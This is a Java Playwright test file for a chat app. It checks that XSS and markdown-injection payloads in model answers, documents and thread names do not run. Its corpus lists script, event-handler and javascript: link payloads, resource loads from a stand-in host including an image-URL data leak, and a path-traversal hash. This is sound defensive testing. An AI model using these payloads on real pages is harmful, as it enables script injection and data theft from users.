package dev.rill.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Locator;
import dev.rill.model.fake.Answer;
import java.io.IOException;
import java.nio.file.Files;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Text of the model, of documents and of people that would like to be code. */
@ExtendWith(Chromium.class)
class HostileTextTest {
    private static final List<String> CORPUS = List.of(
            "<script>window.hacked=1</script>",
            "<img src=x onerror=\"window.hacked=1\">",
            "<svg onload=window.hacked=1>", "<svg><script>window.hacked=1</script></svg>",
            "<iframe src=\"javascript:window.hacked=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
            "<a href=\"javascript:window.hacked=1\">click</a>", "[click](javascript:window.hacked=1)",
            "[click](JaVaScRiPt:window.hacked=1)", "[click](java&#115;cript:window.hacked=1)",
            "[click](javascript&colon;window.hacked=1)", "[click](&#x6a;avascript:window.hacked=1)",
            "[click](data:text/html,<script>window.hacked=1</script>)", "[click](vbscript:window.hacked=1)",
            "[click](<javascript:window.hacked=1>)", "<javascript:window.hacked=1>", "<data:text/html,x>",
            "[click][x]\n\n[x]: javascript:window.hacked=1", "[1]\n\n[1]: javascript:window.hacked=1",
            "![x](javascript:window.hacked=1)", "![leak](https://evil.example/leak.png?q=secret)",
            "![x](x\"onerror=\"window.hacked=1)", "[x](https://a.example/\"onmouseover=\"window.hacked=1)",
            "[x](https://a.example 'x\" onclick=\"window.hacked=1')",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css'</style>",
            "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<form action=https://evil.example><input name=a><button>go</button></form>",
            "<object data=https://evil.example/x.swf></object>", "<embed src=https://evil.example>",
            "<video src=https://evil.example/v.mp4 autoplay></video>", "<details open ontoggle=window.hacked=1>",
            "<input autofocus onfocus=window.hacked=1>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
            "</textarea></title></script><script>window.hacked=1</script>",
            "```html\n<script>window.hacked=1</script>\n```", "```\"><img src=x onerror=window.hacked=1>\ncode\n```",
            "`<img src=x onerror=window.hacked=1>`",
            "| <script>window.hacked=1</script> |\n|---|\n| <img src=x onerror=window.hacked=1> |",
            "&lt;img src=x onerror=window.hacked=1&gt;", "<https://a.example/\" onclick=window.hacked=1>",
            "<!--><img src=x onerror=window.hacked=1>-->", "<![CDATA[<script>window.hacked=1</script>]]>",
            "\u0000<scr\u0000ipt>window.hacked=1</scr\u0000ipt>", "# <img src=x onerror=window.hacked=1>",
            "- [ ] <script>window.hacked=1</script>", "{{constructor.constructor('window.hacked=1')()}}",
            "${window.hacked=1}");

    @Test
    void nothingThatAModelWritesRunsOrLeadsOffThePage(Rilled rilled) {
        Chat chat = rilled.open();
        for (int from = 0; from < CORPUS.size(); from += 12) {
            List<String> part = CORPUS.subList(from, Math.min(from + 12, CORPUS.size()));
            String text = String.join("\n\n", part) + "\n\nThe end.";
            rilled.answering(Answer.words(text));
            chat.ask("How do I stop an answer?");
            chat.awaitEnd();
            assertThat(chat.text()).containsText("The end.");
        }
        for (var link : chat.page().locator(".markdown a").all()) {
            String href = link.getAttribute("href");
            assertTrue(href.startsWith("https://") || href.startsWith("mailto:"), href);
            assertEquals("noopener noreferrer nofollow", link.getAttribute("rel"));
            assertEquals("_blank", link.getAttribute("target"));
        }
        assertThat(chat.page().locator(".markdown :is(script, img, iframe, svg:not(.icon), object, embed, form, style, "
                + "link, video, math, details, base, meta)")).hasCount(0);
        assertThat(chat.page().locator(
                ".markdown :is([onerror], [onload], [onclick], [onfocus], [onmouseover], [ontoggle])")).hasCount(0);
        unharmed(rilled, chat);
        chat.page().reload();
        assertThat(chat.answers()).hasCount((CORPUS.size() + 11) / 12);
        unharmed(rilled, chat);
    }

    @Test
    void nothingInADocumentRuns(Browser browser) throws IOException {
        try (Rilled rilled = Rilled.start(browser, Map.of())) {
            Files.writeString(rilled.house.documents().resolve("hostile <b>.md"), Corpus.HOSTILE);
            rilled.restartServer();
            rilled.answering(Answer.of("See [1], [2], [3]."));
            Chat chat = rilled.open();
            assertThat(chat.page().locator(".suggestions button")).hasCount(3);
            chat.ask("Stopping hostile things click");
            chat.awaitEnd();
            chat.answer().locator(".source").filter(new Locator.FilterOptions().setHasText("Hostile"))
                    .click();
            assertThat(chat.passage()).containsText("<script>window.hacked=1</script>");
            assertThat(chat.passage().locator("header")).containsText("hostile <b>.md");
            assertThat(chat.passage().locator("script, img, .lines svg")).hasCount(0);
            unharmed(rilled, chat);
        }
    }

    @Test
    void nothingInAQuestionOrAThreadsNameRuns(Rilled rilled) {
        String hostile = "<img src=x onerror=window.hacked=1> <script>window.hacked=1</script> [x](javascript:1) "
                + "\u202e desrever";
        Chat chat = rilled.open();
        chat.ask(hostile);
        chat.awaitEnd();
        assertThat(chat.questions()).containsText("<img src=x onerror=window.hacked=1>");
        chat.choose("Rename");
        chat.page().getByLabel("Thread name").fill("<svg onload=window.hacked=1> \"><script>window.hacked=1</script>");
        chat.page().waitForResponse(response -> response.request().method().equals("PATCH"),
                () -> chat.page().keyboard().press("Enter"));
        assertThat(chat.page().locator("h1")).containsText("<svg onload=window.hacked=1>");
        chat.page().reload();
        assertThat(chat.threads().first()).containsText("<svg onload=window.hacked=1>");
        chat.choose("Delete");
        assertThat(chat.toast()).containsText("<svg onload=window.hacked=1>");
        chat.button("Undo").click();
        chat.page().evaluate("() => { location.hash = '#/t/<img src=x onerror=window.hacked=1>'; }");
        chat.page().evaluate("() => { location.hash = '#/t/..%2f..%2fthreads'; }");
        unharmed(rilled, chat);
    }

    private static void unharmed(Rilled rilled, Chat chat) {
        assertEquals("undefined", chat.page().evaluate("() => typeof window.hacked"));
        assertEquals(List.of(), rilled.complaints);
    }
}
